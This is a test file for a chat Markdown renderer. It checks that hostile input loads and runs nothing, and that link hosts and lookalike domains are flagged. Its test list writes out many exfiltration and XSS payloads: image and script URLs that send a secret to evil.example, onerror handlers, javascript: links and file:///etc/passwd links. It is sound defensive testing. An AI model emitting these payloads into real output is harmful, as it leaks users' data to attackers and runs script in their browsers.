import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { UiProvider } from "../app/ui-state";
import { TipProvider } from "../design/Tip";
import { judge, tellsHost } from "./address";
import { Markdown } from "./Markdown";

function draw(text: string, streaming = false): HTMLElement {
  return render(
    <TipProvider>
      <UiProvider>
        <Markdown text={text} streaming={streaming} />
      </UiProvider>
    </TipProvider>,
  ).container;
}

/** Whatever an engine fetches, runs, looks up or submits by itself. */
const ACTIVE =
  "img, picture, source, video, audio, iframe, frame, object, embed, script, style, link, meta, base, form, svg, math, a[href], [src], [srcset], [href], [action], [ping], [background], [poster], [style*='url']";

const secret = "q3-budget-is-42000";

const attacks: readonly (readonly [string, string])[] = [
  ["an image", `![chart](https://evil.example/c.png?d=${secret})`],
  ["an image without words", `![](https://evil.example/${secret})`],
  ["an image by reference", `![chart][x]\n\n[x]: https://evil.example/${secret}`],
  ["an image in a link", `[![chart](https://evil.example/${secret})](https://evil.example/a)`],
  ["an image with data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["an image in a table", `| a |\n|---|\n| ![x](https://evil.example/${secret}) |`],
  ["an image in a heading", `# ![x](https://evil.example/${secret})`],
  ["an image with a script for an address", "![x](javascript:alert(1))"],
  ["an image tag", `<img src="https://evil.example/${secret}">`],
  ["an image tag over lines", `<img\nsrc="https://evil.example/${secret}"\nonerror=alert(1)>`],
  ["a script tag", "<script>fetch('https://evil.example')</script>"],
  ["an iframe", `<iframe src="https://evil.example/${secret}"></iframe>`],
  ["a style sheet", `<link rel="stylesheet" href="https://evil.example/${secret}.css">`],
  ["a look-up of a host", `<link rel="dns-prefetch" href="//${secret}.evil.example">`],
  ["a style with an address", `<div style="background:url(https://evil.example/${secret})">x</div>`],
  ["a form", `<form action="https://evil.example"><input name="a" value="${secret}"></form>`],
  ["a drawing that runs", '<svg onload="alert(1)"><a href="https://evil.example">x</a></svg>'],
  ["an object", '<object data="https://evil.example/x.swf"></object>'],
  ["a base address", '<base href="https://evil.example/">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a comment that hides a tag", "<!-- --><img src=x onerror=alert(1)> -->"],
  ["a tag in a code span's shadow", "`<b>` <img src=x onerror=alert(1)>"],
  ["a link with a script", "[click](javascript:alert(document.cookie))"],
  ["a link with a script in odd letters", "[click](JaVaScRiPt:alert(1))"],
  ["a link with a script in references", "[click](&#106;avascript:alert(1))"],
  ["a link with a script behind a tab", "[click](java\tscript:alert(1))"],
  ["a link with data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a link to a file", "[passwords](file:///etc/passwd)"],
  ["a link to a share", "[passwords](\\\\evil.example\\share)"],
  ["a link to another program", "[open](vscode://file/etc/passwd) [x](mosaic://do) [y](ms-msdt:/id)"],
  ["a link without a scheme", "[x](//evil.example/a)"],
  ["a link to mail", `[x](mailto:a@evil.example?body=${secret})`],
  ["an address in brackets", "<javascript:alert(1)> <data:text/html,x> <file:///etc/passwd>"],
  ["a link by reference with a script", "[x][y]\n\n[y]: javascript:alert(1)"],
  ["a link with a title that breaks out", '[x](https://e.example "a\\" onmouseover=\\"alert(1)")'],
];

describe("hostile Markdown", () => {
  it.each(attacks)("fetches and runs nothing: %s", (_name, text) => {
    const drawn = draw(`Before.\n\n${text}\n\nAfter.`);
    expect(drawn.querySelectorAll(ACTIVE)).toHaveLength(0);
    expect([...drawn.querySelectorAll("*")].flatMap((element) => handlers(element))).toEqual([]);
    expect(drawn.textContent).toContain("After.");
  });

  it.each(attacks)("fetches nothing while it streams in: %s", (_name, text) => {
    for (let at = 1; at <= text.length; at += 7) {
      const drawn = draw(text.slice(0, at), true);
      expect(drawn.querySelectorAll(ACTIVE)).toHaveLength(0);
    }
  });

  it.each([
    ["javascript:", "[click](javascript:boom())"],
    ["data:", "[click](data:text/html,boom)"],
    ["file:", "[click](file:///etc/passwd)"],
    ["vbscript:", "[click](vbscript:boom)"],
    ["blob:", "[click](blob:https://evil.example/1)"],
    ["a name and password", "[click](https://accounts.example@evil.example/)"],
  ])("makes no link of an address that is never opened: %s", (_name, text) => {
    const drawn = draw(text);
    expect(drawn.querySelector("[data-testid=link], [role=link]")).toBeNull();
    expect(drawn.querySelector("[data-testid=refused-link]")?.textContent).toContain("click");
  });

  it("tells what an image was and where it lies, and leads nowhere", () => {
    const drawn = draw("![Sales by week](https://evil.example/c.png?d=1)");
    expect(drawn.textContent).toBe("Sales by week (image not loaded from evil.example)");
    expect(drawn.querySelector("[role=link], button")).toBeNull();
  });

  it("shows raw HTML as the text it is", () => {
    expect(draw("<b onclick=x>bold</b>").textContent).toBe("<b onclick=x>bold</b>");
  });
});

describe("a link's host", () => {
  it.each([
    ["words that say nothing", "[the report](https://evil.example/r)", "the report (evil.example)"],
    [
      "words that name another host",
      "[https://bank.example](https://evil.example)",
      "https://bank.example (evil.example)",
    ],
    [
      "a host that begins as another",
      "[bank.example](https://bank.example.evil.example)",
      "bank.example (bank.example.evil.example)",
    ],
    ["a host that ends as another", "[notbank.example](https://bank.example)", "notbank.example (bank.example)"],
    ["letters of another alphabet", "[аpple.com](https://аpple.com)", "аpple.com (xn--pple-43d.com)"],
    ["a whole address", "https://bank.example/a", "https://bank.example/a"],
    ["the same host in words", "[www.bank.example](https://bank.example/a)", "www.bank.example"],
  ])("stands beside %s", (_name, text, shown) => {
    const drawn = draw(text);
    expect(drawn.textContent).toBe(shown);
  });

  it("is not told by words with a name before it", () => {
    expect(tellsHost("https://evil.example@bank.example", new URL("https://bank.example"))).toBe(false);
  });
});

describe("an address", () => {
  it.each([
    ["a plain page", "https://dev.mysql.com/doc/refman/8.4/en/select.html", []],
    ["no encryption", "http://intranet.example/", ["unencrypted"]],
    ["another alphabet", "https://аррӏе.com/", ["lookalike"]],
    ["a long query", `https://e.example/?d=${"x".repeat(120)}`, ["carriesText"]],
    ["a long fragment", `https://e.example/#${"x".repeat(120)}`, ["carriesText"]],
    ["text for a path", `https://e.example/${"x".repeat(120)}`, ["carriesText"]],
    ["text for a host", `https://${"x".repeat(50)}.e.example/`, ["carriesText"]],
  ])("is judged: %s", (_name, href, warnings) => {
    expect(judge(href)).toMatchObject({ kind: "web", warnings });
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://u:p@e.example", "/etc", ""])(
    "is refused: %s",
    (href) => expect(judge(href).kind).toBe("refused"),
  );
});

function handlers(element: Element): string[] {
  return element.getAttributeNames().filter((name) => name.startsWith("on"));
}
